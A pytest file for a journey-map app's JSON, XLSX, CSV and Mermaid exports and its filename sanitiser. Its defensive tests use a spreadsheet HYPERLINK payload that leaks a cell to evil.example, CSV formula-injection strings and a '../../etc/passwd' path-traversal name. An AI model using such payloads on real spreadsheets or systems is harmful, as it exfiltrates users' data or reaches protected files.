"""Exports: JSON, XLSX, CSV zip, Mermaid and file names, checked by hand on small maps."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest

from cjm import exports
from cjm.exports import ChangeRow
from cjm.models import (
    FixStatus,
    KpiDirection,
    MapStatus,
    Mode,
    PainCategory,
    PainSource,
    PersonaField,
    Severity,
)
from cjm.services.emotions import SCORES
from cjm.views import (
    FixView,
    KpiPoint,
    KpiView,
    MapView,
    PainView,
    StageView,
    TouchpointScore,
    TouchpointView,
    VoteView,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
SHEETS = [
    "Persona",
    "Stages",
    "Touchpoints",
    "Emotions",
    "Pain points",
    "Fixes",
    "KPIs",
    "Change log",
]
CSV_FILES = [
    "persona.csv",
    "stages.csv",
    "touchpoints.csv",
    "emotions.csv",
    "pain_points.csv",
    "fixes.csv",
    "kpis.csv",
    "change_log.csv",
]
CHANGES = (
    ChangeRow(datetime(2026, 11, 26, 9, 0, tzinfo=UTC), "Alice", "map.created", "Checkout"),
    ChangeRow(datetime(2026, 11, 26, 9, 30, tzinfo=UTC), "Bob", "stage.added", "+1 more"),
)


def small_map(**changes: object) -> MapView:
    """Two stages, three touchpoints, votes, a note, two pains and two fixes, with fixed ids."""
    ad = TouchpointView(
        id=11,
        stage_id=1,
        position=1,
        name="Search ad",
        channel="website",
        mode=Mode.ONLINE,
        votes=(
            VoteView(1, "Alice", 1, None),
            VoteView(2, "Bob", 2, None),
            VoteView(3, "Carol", 0, None),
        ),
    )
    tip = TouchpointView(id=12, stage_id=1, position=2, name=HYPERLINK, channel=None, mode=None)
    checkout = TouchpointView(
        id=21,
        stage_id=2,
        position=1,
        name="Checkout",
        channel="website",
        mode=Mode.ONLINE,
        votes=(
            VoteView(1, "Alice", -2, "-5 stars, would not buy"),
            VoteView(2, "Bob", None, "ok"),
        ),
    )
    view = MapView(
        id=7,
        chat_id=-100,
        title="Online shop: first purchase",
        segment="Young parents",
        status=MapStatus.ACTIVE,
        owner_name="Alice",
        created_at=datetime(2026, 11, 1, tzinfo=UTC),
        updated_at=datetime(2026, 11, 26, 9, 0, tzinfo=UTC),
        persona=dict.fromkeys(PersonaField) | {PersonaField.NAME: "Olga, 34"},
        stages=(
            StageView(1, 1, "Discover", "Find a gift", (ad, tip)),
            StageView(2, 2, "Buy", None, (checkout,)),
        ),
        pains=(
            PainView(
                31,
                1,
                11,
                "Ad promises a gone discount",
                PainCategory.FINANCIAL,
                Severity.HIGH,
                PainSource.SURVEY,
                (FixView(41, 31, "Sync ad copy", "@bob", FixStatus.DONE, date(2026, 12, 15)),),
            ),
            PainView(
                32,
                2,
                None,
                "Address asked twice",
                None,
                Severity.MEDIUM,
                PainSource.TEAM,
                (FixView(42, 32, "+ remember it", None, FixStatus.IDEA, None),),
            ),
        ),
        tz="Europe/Berlin",
    )
    return dataclasses.replace(view, **changes)


def measured_map() -> MapView:
    """small_map with the ad as a moment of truth and KPIs on both stages, one without values."""
    view = small_map()
    discover, buy = view.stages
    ad = dataclasses.replace(discover.touchpoints[0], is_moment_of_truth=True)
    return small_map(
        stages=(dataclasses.replace(discover, touchpoints=(ad, discover.touchpoints[1])), buy),
        kpis=(
            KpiView(
                51,
                1,
                "Click-through",
                "%",
                2.5,
                KpiDirection.UP,
                (KpiPoint(date(2026, 11, 1), 2.0), KpiPoint(date(2026, 11, 8), 2.75)),
            ),
            KpiView(52, 2, "Tickets", "", None, KpiDirection.DOWN),
        ),
    )


class TestJson:
    def test_is_a_versioned_document_with_a_fixed_key_order(self):
        """The file opens with schema and version; every level keeps its documented key order."""
        document = json.loads(exports.map_to_json(measured_map()))

        assert list(document) == ["schema", "version", "map"]
        assert (document["schema"], document["version"]) == ("journey-map", 2)
        journey = document["map"]
        assert list(journey) == ["title", "segment", "status", "persona", "stages", "pains"]
        assert list(journey["persona"]) == [field.value for field in PersonaField]
        stage = journey["stages"][0]
        assert list(stage) == ["name", "customer_goal", "touchpoints", "kpis"]
        assert list(stage["touchpoints"][0]) == [
            "name",
            "channel",
            "mode",
            "is_moment_of_truth",
            "votes",
        ]
        assert list(stage["kpis"][0]) == ["name", "unit", "target", "direction", "values"]
        assert list(stage["kpis"][0]["values"][0]) == ["measured_on", "value"]
        assert list(journey["pains"][0]) == [
            "stage",
            "touchpoint",
            "text",
            "category",
            "severity",
            "source",
            "fixes",
        ]
        assert list(journey["pains"][0]["fixes"][0]) == ["text", "owner_name", "status", "due_on"]

    def test_pains_point_at_stages_and_touchpoints_by_index(self):
        """A pain names its stage and touchpoint by position in the file, never by database id."""
        journey = json.loads(exports.map_to_json(small_map()))["map"]

        assert journey["pains"][0] == {
            "stage": 0,
            "touchpoint": 0,
            "text": "Ad promises a gone discount",
            "category": "financial",
            "severity": "high",
            "source": "survey",
            "fixes": [
                {
                    "text": "Sync ad copy",
                    "owner_name": "@bob",
                    "status": "done",
                    "due_on": "2026-12-15",
                }
            ],
        }
        assert (journey["pains"][1]["stage"], journey["pains"][1]["touchpoint"]) == (1, None)

    def test_touchpoints_carry_their_moment_of_truth_flag(self):
        """Each touchpoint says whether it is a moment of truth (⭐), false when it is not."""
        journey = json.loads(exports.map_to_json(measured_map()))["map"]

        flags = [
            [tp["is_moment_of_truth"] for tp in stage["touchpoints"]]
            for stage in journey["stages"]
        ]
        assert flags == [[True, False], [False]]

    def test_kpis_sit_with_their_stage_with_values_oldest_first(self):
        """A stage lists its KPIs; a missing unit is null, values are ISO dates and numbers."""
        journey = json.loads(exports.map_to_json(measured_map()))["map"]

        discover, buy = journey["stages"]
        assert discover["kpis"] == [
            {
                "name": "Click-through",
                "unit": "%",
                "target": 2.5,
                "direction": "up",
                "values": [
                    {"measured_on": "2026-11-01", "value": 2.0},
                    {"measured_on": "2026-11-08", "value": 2.75},
                ],
            }
        ]
        assert buy["kpis"] == [
            {"name": "Tickets", "unit": None, "target": None, "direction": "down", "values": []}
        ]

    def test_a_map_without_kpis_lists_none(self):
        """Stages without KPIs write an empty list, so every version 2 file has the key."""
        journey = json.loads(exports.map_to_json(small_map()))["map"]

        assert [stage["kpis"] for stage in journey["stages"]] == [[], []]

    def test_holds_no_ids_or_timestamps(self):
        """Nothing that differs between databases or over time is written."""
        text = exports.map_to_json(small_map()).decode()

        assert '"id"' not in text
        assert "2026-11-26" not in text  # updated_at
        assert "2026-11-01" not in text  # created_at
        assert "Alice" in text  # the voters do travel

    def test_is_indented_utf8_with_a_trailing_newline(self):
        """Non-ASCII text is written as UTF-8, not \\u escapes; the file ends with a newline."""
        data = exports.map_to_json(small_map(title="Покупка 🛒 購入"))

        assert "Покупка 🛒 購入".encode() in data
        assert data.endswith(b"}\n")
        assert data.startswith(b'{\n  "schema": "journey-map",\n  "version": 2,\n')

    def test_same_map_same_bytes(self):
        """Exporting is deterministic, whatever time it is."""
        assert exports.map_to_json(small_map()) == exports.map_to_json(
            small_map(updated_at=datetime(2030, 1, 1, tzinfo=UTC))
        )


def open_workbook(view: MapView, changes=CHANGES) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(exports.map_to_xlsx(view, changes)))


def sheet_rows(workbook: openpyxl.Workbook, title: str) -> list[tuple]:
    return list(workbook[title].iter_rows(values_only=True))


class TestScores:
    def test_touchpoint_scores_land_in_the_touchpoints_sheet(self):
        """A touchpoint's latest survey score, n and trend appear next to its emotion."""
        view = small_map()
        first = view.touchpoints[0]
        scores = {first.id: TouchpointScore("nps", 32.0, 41, 1)}
        workbook = openpyxl.load_workbook(io.BytesIO(exports.map_to_xlsx(view, (), scores)))
        rows = sheet_rows(workbook, "Touchpoints")
        assert rows[1][-4:] == ("NPS", 32, 41, "up")
        assert rows[2][-4:] == (None, None, None, None)


class TestXlsx:
    def test_has_a_sheet_per_lane_with_bold_frozen_headers(self):
        """Seven sheets in lane order; each has a bold header row that stays put when scrolling."""
        workbook = open_workbook(small_map())

        assert workbook.sheetnames == SHEETS
        for sheet in workbook.worksheets:
            assert sheet.freeze_panes == "A2"
            assert all(cell.font.bold for cell in sheet[1])
        assert sheet_rows(workbook, "Touchpoints")[0] == (
            "Stage",
            "Position",
            "Name",
            "Channel",
            "Mode",
            "Average emotion",
            "Spread",
            "Votes",
            "Moment of truth",
            "Survey",
            "Survey score",
            "Survey answers",
            "Survey trend",
        )
        assert sheet_rows(workbook, "Change log")[0] == (
            "At (Europe/Berlin)",
            "Who",
            "Action",
            "Summary",
        )

    def test_tables_hold_the_map(self):
        """Each lane's rows, hand-checked: averages and spread are numbers, open? a boolean."""
        workbook = open_workbook(small_map())

        assert sheet_rows(workbook, "Persona")[1] == ("name", "Olga, 34")
        assert len(sheet_rows(workbook, "Persona")) == 1 + len(PersonaField)
        assert sheet_rows(workbook, "Stages")[1:] == [
            (1, "Discover", "Find a gift"),
            (2, "Buy", None),
        ]
        assert sheet_rows(workbook, "Touchpoints")[1] == (
            "Discover",
            1,
            "Search ad",
            "website",
            "online",
            1,
            0.82,
            3,
            False,
            None,
            None,
            None,
            None,
        )
        assert sheet_rows(workbook, "Touchpoints")[2][5:8] == (None, None, 0)
        assert sheet_rows(workbook, "Emotions")[4:] == [
            ("Buy", "Checkout", "Alice", -2, "'-5 stars, would not buy"),
            ("Buy", "Checkout", "Bob", None, "ok"),
        ]
        assert sheet_rows(workbook, "Pain points")[1:] == [
            (
                "Discover",
                "Search ad",
                "Ad promises a gone discount",
                "financial",
                "high",
                "survey",
                False,
            ),
            ("Buy", None, "Address asked twice", None, "medium", "team", True),
        ]

    def test_formula_text_is_neutralised(self):
        """A touchpoint named =HYPERLINK(...) is stored as text with a leading quote, not run."""
        sheet = open_workbook(small_map())["Touchpoints"]

        cell = sheet["C3"]
        assert cell.value == "'" + HYPERLINK
        assert cell.data_type == "s"
        assert sheet_rows(open_workbook(small_map()), "Fixes")[2][1] == "'+ remember it"

    def test_numbers_stay_numbers(self):
        """Neutralising touches text only: a −5 stays the number −5, not "'-5"."""
        checkout = small_map().stages[1].touchpoints[0]
        odd = dataclasses.replace(checkout, votes=(VoteView(9, "Dan", -5, None),))
        view = small_map(
            stages=(
                small_map().stages[0],
                dataclasses.replace(small_map().stages[1], touchpoints=(odd,)),
            )
        )

        cell = open_workbook(view)["Emotions"]["D5"]

        assert cell.value == -5
        assert cell.data_type == "n"

    def test_dates_are_real_dates(self):
        """Due dates and change times are date cells (local time), not text."""
        workbook = open_workbook(small_map())

        due = workbook["Fixes"]["E2"]
        assert due.is_date
        assert due.value.isoformat() == "2026-12-15T00:00:00"
        at = workbook["Change log"]["A2"]
        assert at.is_date
        assert at.value.isoformat() == "2026-11-26T10:00:00"  # 09:00 UTC in Berlin

    def test_columns_fit_their_content_within_a_cap(self):
        """Widths follow the longest value, but never pass 60 characters."""
        long_goal = "word " * 40
        stage = dataclasses.replace(small_map().stages[0], customer_goal=long_goal)
        view = small_map(stages=(stage,), pains=())

        sheet = open_workbook(view)["Stages"]

        assert sheet.column_dimensions["B"].width == len("Discover") + 2
        assert sheet.column_dimensions["C"].width == 60
        assert sheet["C2"].alignment.wrap_text

    def test_an_empty_map_exports(self):
        """A map with nothing on it still gives every sheet its header row."""
        view = small_map(stages=(), pains=(), persona=dict.fromkeys(PersonaField))

        workbook = open_workbook(view, changes=())

        assert workbook.sheetnames == SHEETS
        assert sheet_rows(workbook, "Stages") == [("Position", "Name", "Customer goal")]

    def test_control_characters_do_not_break_the_file(self):
        """Characters XML cannot hold are dropped instead of making openpyxl fail."""
        view = small_map(title="x", segment=None, persona={PersonaField.NAME: "Ol\x00ga\x1b"})

        assert sheet_rows(open_workbook(view), "Persona")[1] == ("name", "Olga")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("+31 20 123", "'+31 20 123"),
        ("-5", "'-5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rcmd", "'\rcmd"),
        ("  =1+1", "'  =1+1"),
        ("Checkout = pain", "Checkout = pain"),
        ("a\x00b", "ab"),
        (-5, -5),
        (0.5, 0.5),
        (True, True),
        (None, None),
        (date(2026, 1, 2), date(2026, 1, 2)),
    ],
    ids=[
        "formula",
        "hyperlink",
        "plus",
        "minus-text",
        "at",
        "tab",
        "cr",
        "spaced-formula",
        "inner-equals",
        "nul",
        "negative-int",
        "float",
        "bool",
        "none",
        "date",
    ],
)
def test_safe_cell(value, expected):
    """Text that a spreadsheet would run gets a quote; other values pass untouched."""
    assert exports.safe_cell(value) == expected


def read_zip(data: bytes) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name: list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
            for name in archive.namelist()
        }


class TestCsvZip:
    def test_has_one_csv_per_sheet(self):
        """The zip holds the workbook's seven tables as CSV files."""
        with zipfile.ZipFile(io.BytesIO(exports.map_to_csv_zip(small_map(), CHANGES))) as archive:
            assert archive.namelist() == CSV_FILES
            assert archive.testzip() is None
            raw = archive.read("touchpoints.csv")
            assert all(info.external_attr >> 16 == 0o644 for info in archive.infolist())
        assert raw.startswith(b"\xef\xbb\xbfStage,Position,Name,")  # UTF-8 with a BOM for Excel

    def test_tables_are_neutralised_like_the_workbook(self):
        """Same rows as the sheets; formulas quoted, numbers, dates and booleans readable."""
        files = read_zip(exports.map_to_csv_zip(small_map(), CHANGES))

        assert [row[:8] for row in files["touchpoints.csv"]] == [
            ["Stage", "Position", "Name", "Channel", "Mode", "Average emotion", "Spread", "Votes"],
            ["Discover", "1", "Search ad", "website", "online", "1.0", "0.82", "3"],
            ["Discover", "2", "'" + HYPERLINK, "", "", "", "", "0"],
            ["Buy", "1", "Checkout", "website", "online", "-2.0", "0.0", "1"],
        ]
        assert files["fixes.csv"][1:] == [
            ["Ad promises a gone discount", "Sync ad copy", "'@bob", "done", "2026-12-15"],
            ["Address asked twice", "'+ remember it", "", "idea", ""],
        ]
        assert files["pain_points.csv"][1][-1] == "FALSE"
        assert files["change_log.csv"][1] == [
            "2026-11-26 10:00",
            "Alice",
            "map.created",
            "Checkout",
        ]
        assert files["change_log.csv"][2][-1] == "'+1 more"

    def test_same_map_same_bytes(self):
        """The zip's dates come from the map, not the clock, so an export can be compared."""
        assert exports.map_to_csv_zip(small_map()) == exports.map_to_csv_zip(small_map())


class TestMermaid:
    def test_small_map(self):
        """A section per stage, a task per touchpoint scored 1..5 with the members who voted."""
        assert exports.map_to_mermaid(small_map(title="Online shop")) == (
            "journey\n"
            "    title Online shop\n"
            "    section Discover\n"
            "      Search ad: 4: Alice, Bob, Carol\n"
            '      =HYPERLINK("http∶//evil.example/?leak="&A1,"Click me"): 3\n'
            "    section Buy\n"
            "      Checkout: 1: Alice\n"
        )

    def test_syntax_characters_are_replaced(self):
        """Colons, semicolons, hashes, newlines and %% comments cannot break the diagram."""
        tp = TouchpointView(
            1,
            1,
            1,
            "Step #1: pay; now\nplease %% later",
            None,
            None,
            votes=(VoteView(5, "Doe, Jane: #1", 2, None),),
        )
        view = small_map(title="A: B; C #1", stages=(StageView(1, 1, "Buy: 1\r\n2", None, (tp,)),))

        assert exports.map_to_mermaid(view).splitlines() == [
            "journey",
            "    title A∶ B, C 1",
            "    section Buy∶ 1 2",
            "      Step 1∶ pay, now please % later: 5: Doe Jane∶ 1",
        ]

    def test_task_named_like_a_keyword_stays_a_task(self):
        """A touchpoint called "Title page" would otherwise retitle the diagram."""
        tp = TouchpointView(1, 1, 1, "Title page", None, None)
        view = small_map(stages=(StageView(1, 1, "Section A", None, (tp,)),))

        lines = exports.map_to_mermaid(view).splitlines()

        assert lines[2:] == ["    section Section A", "      \u200bTitle page: 3"]

    @pytest.mark.parametrize(
        ("scores", "expected"),
        [
            ((), 3),
            ((-2,), 1),
            ((-1,), 2),
            ((0,), 3),
            ((1,), 4),
            ((2,), 5),
            ((2, 1), 5),
            ((-2, 2, 1), 3),
        ],
    )
    def test_score_scale(self, scores, expected):
        """−2..+2 averages map to Mermaid's 1..5 as round(average) + 3; no votes is 3."""
        votes = tuple(VoteView(i, f"M{i}", score, None) for i, score in enumerate(scores))

        assert exports.mermaid_score(TouchpointView(1, 1, 1, "x", None, None, votes)) == expected

    def test_scale_covers_every_score(self):
        """The document's score range is the one members vote in."""
        assert (min(SCORES), max(SCORES)) == (exports.SCORE_MIN, exports.SCORE_MAX)


@pytest.mark.parametrize(
    ("title", "extension", "expected"),
    [
        ("Online shop: first purchase", "xlsx", "online-shop-first-purchase.xlsx"),
        ("Онлайн-магазин / первая покупка", ".csv", "онлайн-магазин-первая-покупка.csv"),
        ("网店 首次购买", "json", "网店-首次购买.json"),
        ("Caf\u00e9\u0301 — 2026!!", "mmd", "caf\u00e9\u0301-2026.mmd"),
        ("🛒🛒🛒", "xlsx", "journey-map.xlsx"),
        ("../../etc/passwd", "json", "etc-passwd.json"),
        ("a" * 80, "zip", "a" * 60 + ".zip"),
        ("x" * 59 + " y", "zip", "x" * 59 + ".zip"),
        ("CON", "txt", "con-map.txt"),
        ("Shop", "x/../lsx", "shop.xlsx"),
    ],
    ids=[
        "latin",
        "cyrillic",
        "cjk",
        "accents",
        "emoji-only",
        "path",
        "long",
        "cap-at-dash",
        "windows-reserved",
        "odd-extension",
    ],
)
def test_export_filename(title, extension, expected):
    """Letters and digits of any script survive; everything else becomes one dash."""
    assert exports.export_filename(small_map(title=title), extension) == expected
